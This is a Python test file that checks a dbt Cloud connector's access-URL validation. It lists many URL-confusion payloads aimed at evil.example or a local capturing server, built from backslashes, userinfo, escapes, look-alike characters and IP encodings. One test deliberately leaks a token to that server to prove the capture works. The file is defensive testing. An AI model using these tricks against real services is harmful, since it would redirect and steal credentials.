"""The dbt Cloud access URL: URL-confusion tricks are refused or rebuilt to the host requests
really connects to, and no entry point sends the service token to a foreign host."""

from __future__ import annotations

import json

import pytest
import requests
from django.core.management import CommandError, call_command
from requests.adapters import HTTPAdapter
from urllib3.util import parse_url

from integrations.connectors.base import ConnectorError
from integrations.connectors.dbt_cloud import DbtCloudForm
from integrations.connectors.dbt_cloud_api import DbtCloudClient
from integrations.models import Integration, SyncRun
from integrations.services import sync_execute
from tests.factories import admin_user, dbt_cloud_account, postgres_integration
from tests.support.capturing_server import CapturingServer

CANONICAL = "https://ab123.us1.dbt.com"
TOKEN = "dbtc_Capture_Me_If_You_Can"

BACKSLASH = "must not contain a backslash"
USERINFO = "must not contain @ or a user name and password"
ALONE = "without a path, ? or #"
ESCAPES = "must not contain percent-escapes"
LOOKALIKE = "look-alike characters are not accepted"
NOT_DBT = "is not a dbt Cloud host"
BAD_NAME = "is not a valid host name"
IP = "must name a host, not an IP address"
PORT = "must not name a port"
INVISIBLE = "must not contain spaces, tabs, line breaks"
HTTPS = "must start with https://"
NO_HOST = "must be https:// and the host"

TRICKS = [
    # backslash: WHATWG and urlsplit read it as part of the userinfo, urllib3 as the path
    ("https://evil.example\\@ab123.us1.dbt.com", BACKSLASH),
    ("https://evil.example\\.ab123.us1.dbt.com", BACKSLASH),
    ("https:/\\evil.example", BACKSLASH),
    ("https:\\\\evil.example", BACKSLASH),
    # userinfo and @ anywhere
    ("https://user:pass@ab123.us1.dbt.com", USERINFO),
    ("https://@ab123.us1.dbt.com", USERINFO),
    ("https://ab123.us1.dbt.com@evil.example", USERINFO),
    ("https://ab123.us1.dbt.com:443@evil.example", USERINFO),
    ("https://evil.example/@ab123.us1.dbt.com", USERINFO),
    # ? and #
    ("https://evil.example#@ab123.us1.dbt.com", USERINFO),
    ("https://evil.example?@ab123.us1.dbt.com", USERINFO),
    ("https://evil.example#.ab123.us1.dbt.com", ALONE),
    ("https://evil.example?.ab123.us1.dbt.com", ALONE),
    ("https://ab123.us1.dbt.com#", ALONE),
    ("https://ab123.us1.dbt.com?", ALONE),
    ("https://ab123.us1.dbt.com/?x=1", ALONE),
    ("https://evil.example/.ab123.us1.dbt.com", ALONE),
    ("https://ab123.us1.dbt.com/..", ALONE),
    ("https://ab123.us1.dbt.com//", ALONE),
    # percent-escapes in the host
    ("https://evil.example%2f.ab123.us1.dbt.com", ESCAPES),
    ("https://evil.example%2F@ab123.us1.dbt.com", USERINFO),
    ("https://evil.example%40ab123.us1.dbt.com", ESCAPES),
    ("https://evil.example%5c.ab123.us1.dbt.com", ESCAPES),
    ("https://ab123.us1.%64bt.com", ESCAPES),
    # IDNA: full-width letters and dots, Cyrillic look-alikes
    ("https://ab123.us1.ｄｂｔ.com", LOOKALIKE),
    ("https://ab123.us1.dbt\uff0ecom", LOOKALIKE),
    ("https://ab123.us1.dbt\u3002com", LOOKALIKE),
    ("https://ab123.us1.\u0501bt.com", f"ab123.us1.xn--bt-32c.com {NOT_DBT}"),
    ("https://ab123.us1.dbt.c\u043em", f"ab123.us1.dbt.xn--cm-fmc {NOT_DBT}"),
    ("https://xn--ab123.us1.dbt.com.evil.example", NOT_DBT),
    # dots
    ("https://ab123.us1.dbt.com..", BAD_NAME),
    ("https://ab123.us1.dbt.com.evil.example", NOT_DBT),
    ("https://ab_c.us1.dbt.com", BAD_NAME),
    # IP forms of 127.0.0.1 and others
    ("https://2130706433", IP),
    ("https://0177.0.0.1", IP),
    ("https://0x7f000001", IP),
    ("https://0x7f.0.0.1", IP),
    ("https://127.1", IP),
    ("https://127.0.0.1", IP),
    ("https://10.1.2.3", IP),
    ("https://[::1]", IP),
    ("https://[::ffff:127.0.0.1]", IP),
    # ports
    ("https://ab123.us1.dbt.com:444", PORT),
    ("https://ab123.us1.dbt.com:8443", PORT),
    ("https://ab123.us1.dbt.com:99999", "is not a valid URL"),
    # whitespace and invisible characters inside
    ("https://evil.example\t@ab123.us1.dbt.com", INVISIBLE),
    ("https://evil.example\n@ab123.us1.dbt.com", INVISIBLE),
    ("https://ab123.us1.dbt.com\t.evil.example", INVISIBLE),
    ("https://ab123.us1.dbt.com\r\n.evil.example", INVISIBLE),
    ("https://ab123.us1.dbt.com .evil.example", INVISIBLE),
    ("https://ab123\u200b.us1.dbt.com", INVISIBLE),
    ("https://ab123\u00ad.us1.dbt.com", INVISIBLE),
    # schemes
    ("//evil.example", HTTPS),
    ("//ab123.us1.dbt.com", HTTPS),
    ("ab123.us1.dbt.com", HTTPS),
    ("http://ab123.us1.dbt.com", HTTPS),
    ("ftp://ab123.us1.dbt.com", HTTPS),
    ("javascript://ab123.us1.dbt.com", HTTPS),
    ("https:ab123.us1.dbt.com", NO_HOST),
    ("https:/ab123.us1.dbt.com", NO_HOST),
    ("https:///ab123.us1.dbt.com", NO_HOST),
    ("https://cloud.getdbt.com", "stopped serving integrations on 1 November 2026"),
    # accepted, rebuilt to scheme://host
    ("https://AB123.US1.DBT.COM", CANONICAL),
    ("HTTPS://ab123.us1.dbt.com/", CANONICAL),
    ("https://ab123.us1.dbt.com.", CANONICAL),
    ("https://ab123.us1.dbt.com./", CANONICAL),
    ("https://ab123.us1.dbt.com:443", CANONICAL),
    ("https://ab123.us1.dbt.com:443/", CANONICAL),
    ("  https://ab123.us1.dbt.com \n", CANONICAL),
    ("https://\u212aab.us1.dbt.com", "https://kab.us1.dbt.com"),  # Kelvin sign: "k"
    ("https://EMEA.dbt.com", "https://emea.dbt.com"),
]


def form(access_url: str) -> DbtCloudForm:
    return DbtCloudForm(data={"account_id": "7", "access_url": access_url, "token": TOKEN})


def connects_to(url: str) -> tuple[str, int]:
    """Where requests itself would open the connection for this URL: its own preparation and
    the adapter's choice of connection pool."""
    prepared = requests.Request("GET", url.rstrip("/") + "/api/v2/accounts/7/").prepare()
    host_params, _ = HTTPAdapter().build_connection_pool_key_attributes(prepared, verify=True)
    return host_params["host"], host_params["port"] or 443


@pytest.mark.parametrize("url, expected", TRICKS)
def test_url_tricks_are_refused_with_the_reason_or_rebuilt_to_the_host_requests_reaches(
    url, expected, settings
):
    settings.DBT_CLOUD_ALLOW_LOOPBACK_HTTP = True  # the test mode opens no hole for https
    f = form(url)
    if not expected.startswith("https://"):
        assert not f.is_valid()
        assert expected in f.errors["access_url"][0]
        return
    assert f.is_valid(), f.errors
    rebuilt = f.cleaned_data["access_url"]
    assert rebuilt == expected
    host = rebuilt.removeprefix("https://")
    # The host as pasted, by urllib3's parser and by requests, is the rebuilt one (DNS reads
    # a name with its final dot as the same name).
    assert parse_url(url.strip()).host.rstrip(".") == host
    pasted_host, pasted_port = connects_to(url.strip())
    assert (pasted_host.rstrip("."), pasted_port) == (host, 443)
    assert connects_to(rebuilt) == (host, 443)


@pytest.mark.parametrize(
    "url, expected",
    [
        ("http://127.0.0.1:8000", "http://127.0.0.1:8000"),
        ("http://127.0.0.1:8000/", "http://127.0.0.1:8000"),
        ("http://localhost:8000", "http://localhost:8000"),
        ("http://[::1]:8000", "http://[::1]:8000"),
        ("http://127.0.0.1:8000\\@ab123.us1.dbt.com", BACKSLASH),
        ("http://ab123.us1.dbt.com@127.0.0.1:8000", USERINFO),
        ("http://127.0.0.1:8000/api", ALONE),
        ("http://2130706433:8000", HTTPS),
        ("http://0x7f000001:8000", HTTPS),
        ("http://10.1.2.3:8000", HTTPS),
        ("http://localhost.evil.example:8000", HTTPS),
        ("https://127.0.0.1:8000", PORT),
    ],
)
def test_the_loopback_test_mode_takes_only_plain_loopback_addresses(url, expected, settings):
    settings.DBT_CLOUD_ALLOW_LOOPBACK_HTTP = True
    f = form(url)
    if expected.startswith("http://"):
        assert f.is_valid(), f.errors
        assert f.cleaned_data["access_url"] == expected
        assert parse_url(expected).host == parse_url(url).host
    else:
        assert not f.is_valid()
        assert expected in f.errors["access_url"][0]


def test_an_extra_host_is_matched_after_rebuilding_and_tricks_around_it_still_fail(settings):
    settings.DBT_CLOUD_EXTRA_HOSTS = ["Acme.Dbt-Cloud.example."]
    accepted = form("https://ACME.dbt-cloud.example.")
    assert accepted.is_valid(), accepted.errors
    assert accepted.cleaned_data["access_url"] == "https://acme.dbt-cloud.example"
    assert (
        BACKSLASH in form("https://evil.example\\@acme.dbt-cloud.example").errors["access_url"][0]
    )
    assert NOT_DBT in form("https://acme.dbt-cloud.example.evil.example").errors["access_url"][0]


@pytest.mark.parametrize(
    "url, reason",
    [
        ("https://evil.example\\@ab123.us1.dbt.com", BACKSLASH),
        ("https://user:pass@ab123.us1.dbt.com", USERINFO),
        ("https://evil.example#.ab123.us1.dbt.com", ALONE),
        ("https://evil.example%2f.ab123.us1.dbt.com", ESCAPES),
        ("https://ab123.us1.\u0501bt.com", NOT_DBT),
        ("https://2130706433", IP),
        ("https://ab123.us1.dbt.com:444", PORT),
        ("https://evil.example\t@ab123.us1.dbt.com", INVISIBLE),
        ("http://ab123.us1.dbt.com", HTTPS),
        ("https://evil.example", NOT_DBT),
        ("", "Paste your account's access URL"),
        (None, "Paste your account's access URL"),
    ],
)
def test_the_client_refuses_a_stored_url_before_it_holds_the_token(url, reason):
    with pytest.raises(ConnectorError) as caught:
        DbtCloudClient(access_url=url, token=TOKEN, account_id=7)
    message = str(caught.value)
    assert "The stored dbt Cloud access URL was refused and the token was not sent" in message
    assert reason in message
    assert "Edit the integration and paste the account's access URL again" in message
    assert TOKEN not in message
    assert "user:pass" not in message


@pytest.mark.parametrize(
    "stored, base",
    [
        ("https://AB123.US3.DBT.COM", "https://ab123.us3.dbt.com"),
        ("https://xy9.eu2.dbt.com/", "https://xy9.eu2.dbt.com"),
        ("https://cloud.getdbt.com", "https://cloud.getdbt.com"),  # its 401 says it retired
    ],
)
def test_the_client_connects_to_the_rebuilt_url_of_a_url_stored_as_pasted(stored, base):
    with DbtCloudClient(access_url=stored, token=TOKEN, account_id=7) as client:
        assert client.base == base
        assert client._url("v2/accounts/7/") == f"{base}/api/v2/accounts/7/"


# -- a real attacker's server: nothing carrying the token may reach it --------------------


@pytest.fixture
def attacker(monkeypatch, settings):
    """A capturing HTTPS server whose certificate requests trusts, like a real attacker's."""
    server = CapturingServer().start()
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(server.ca_file))
    settings.DBT_CLOUD_ALLOW_LOOPBACK_HTTP = True
    yield server
    server.stop()


def hostile_urls(attacker) -> dict[str, str]:
    """The tricks that point requests at the attacker's server, with the refusal of each."""
    return {
        f"https://{attacker.authority}\\@ab123.us1.dbt.com": BACKSLASH,
        f"https://{attacker.authority}\\.ab123.us1.dbt.com": BACKSLASH,
        f"https://ab123.us1.dbt.com@{attacker.authority}": USERINFO,
        f"https://{attacker.authority}#@ab123.us1.dbt.com": USERINFO,
        f"https://{attacker.authority}/.ab123.us1.dbt.com": ALONE,
    }


def assert_refused_for_its_url(response, url: str, reason: str) -> None:
    """Refused by the access URL's own check (not only by another rule of the form)."""
    assert reason in " ".join(response.context["form"].errors.get("access_url", [])), url


def assert_nothing_reached(attacker) -> None:
    assert attacker.tokens_received() == []
    assert attacker.requests == []
    assert attacker.connections == 0


def test_the_capturing_server_does_capture_a_token_sent_to_it(attacker):
    # The leak the tests below look for, made directly: requests follows the backslash.
    session = requests.Session()
    session.headers["Authorization"] = f"Token {TOKEN}"
    session.get(f"https://{attacker.authority}\\@ab123.us1.dbt.com/api/v2/", timeout=10)
    assert attacker.tokens_received() == [f"Token {TOKEN}"]


@pytest.fixture
def admin_client(client, db):
    client.force_login(admin_user())
    postgres_integration({"host": "127.0.0.1", "port": 5432, "database": "w", "user": "u"})
    return client


@pytest.mark.parametrize("button", ["_test", "_save"])
def test_the_connect_form_sends_no_token_to_a_tricked_host(admin_client, attacker, button):
    responses = {
        url: admin_client.post(
            "/integrations/new/dbt_cloud/",
            {"name": "dbt", "account_id": "7", "access_url": url, "token": TOKEN, button: "1"},
        )
        for url in hostile_urls(attacker)
    }
    assert_nothing_reached(attacker)
    assert not Integration.objects.filter(connector="dbt_cloud").exists()
    for url, response in responses.items():
        assert_refused_for_its_url(response, url, hostile_urls(attacker)[url])
        assert TOKEN not in response.content.decode()


def test_the_edit_form_sends_no_stored_token_when_only_the_url_is_changed(
    admin_client, attacker, dbt_cloud
):
    dbt_cloud_account(dbt_cloud)
    integration = Integration.objects.create(
        connector="dbt_cloud",
        name="dbt",
        config={"account_id": 7, "access_url": dbt_cloud.url, "token": dbt_cloud.state.token},
    )
    responses = {
        (url, button): admin_client.post(
            f"/integrations/{integration.pk}/edit/",
            {
                "name": "dbt",
                "account_id": "7",
                "access_url": url,
                "token": "",
                "description_policy": "fill",
                button: "1",
            },
        )
        for url in hostile_urls(attacker)
        for button in ("_test", "_save")
    }
    assert_nothing_reached(attacker)
    integration.refresh_from_db()
    assert integration.config["access_url"] == dbt_cloud.url
    for (url, _button), response in responses.items():
        assert_refused_for_its_url(response, url, hostile_urls(attacker)[url])


def test_integration_add_sends_no_token_to_a_tricked_host(admin_client, attacker, tmp_path):
    path = tmp_path / "dbt.json"
    refusals = []
    for url in hostile_urls(attacker):
        path.write_text(json.dumps({"account_id": 7, "access_url": url, "token": TOKEN}))
        try:
            call_command("integration_add", "dbt_cloud", "--name", "dbt", "--config", str(path))
        except CommandError as exc:
            refusals.append(str(exc))
    assert_nothing_reached(attacker)
    assert not Integration.objects.filter(connector="dbt_cloud").exists()
    assert len(refusals) == len(hostile_urls(attacker))
    for refusal, reason in zip(refusals, hostile_urls(attacker).values(), strict=True):
        assert refusal.startswith("access_url: ") and reason in refusal, refusal
        assert TOKEN not in refusal


def test_a_hostile_url_stored_without_the_form_fails_the_sync_and_sends_nothing(
    admin_client, attacker
):
    """As an old database or a raw write could hold it: the client refuses it before it sets
    the token, on the sync and on the edit page (which lists jobs with the stored config)."""
    runs, pages = [], []
    for url in hostile_urls(attacker):
        integration = Integration.objects.create(
            connector="dbt_cloud",
            name=f"dbt {url}",
            config={"account_id": 7, "access_url": url, "token": TOKEN},
        )
        run = SyncRun.objects.create(integration=integration)
        sync_execute(run=run)
        run.refresh_from_db()
        runs.append(run)
        pages.append(admin_client.get(f"/integrations/{integration.pk}/edit/").content.decode())
    assert_nothing_reached(attacker)
    for run in runs:
        assert run.status == SyncRun.Status.FAILED
        assert "The stored dbt Cloud access URL was refused and the token was not sent" in (
            run.error
        )
        assert TOKEN not in run.error and TOKEN not in json.dumps(run.warnings)
    for page in pages:
        assert "Could not list them from dbt Cloud: The stored dbt Cloud access URL" in page
        assert TOKEN not in page
